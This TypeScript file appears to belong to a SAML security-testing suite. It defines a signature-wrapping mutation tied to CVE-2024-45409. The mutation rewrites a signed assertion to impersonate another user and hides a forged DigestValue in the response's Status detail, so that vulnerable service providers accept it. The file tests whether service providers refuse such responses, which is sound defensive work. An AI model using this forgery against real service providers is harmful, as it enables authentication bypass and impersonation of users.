import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { NS } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { insertInto } from '../kit/edit.ts';
import { personate } from '../kit/person.ts';
import { digestOf } from '../kit/redigest.ts';
import { statusDetail, takeApart } from '../kit/take-apart.ts';

function wrap(xml: string, context: MutationContext): string {
  const { put, genuine } = takeApart(xml, context);
  const changed = put(personate(genuine, context));
  const digest = digestOf(changed, 'Response/Assertion');
  const forged = `<ds:DigestValue xmlns:ds="${NS.ds}">${digest}</ds:DigestValue>`;
  return insertInto(changed, 'Response/Status', statusDetail(forged));
}

export default defineMutation({
  id: 'wrapping/digest-elsewhere',
  title: 'The digest of a changed assertion stands in the status detail',
  stage: 'after-signing',
  change: { on: 'response', apply: wrap },
  breaks: ['attributes/value', 'signature/digest', 'subject/user-name'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.validateReference, refs.absolutePaths],
  cves: ['CVE-2024-45409'],
  attack: {
    against: 'sp',
    mechanism:
      'The signed assertion is changed where it is, and the DigestValue that fits it is put where a search of the whole document finds it first. SignedInfo, with the old digest, still verifies.',
    weakness: ['first-digest-anywhere'],
    needs: ['signed-assertion'],
  },
});
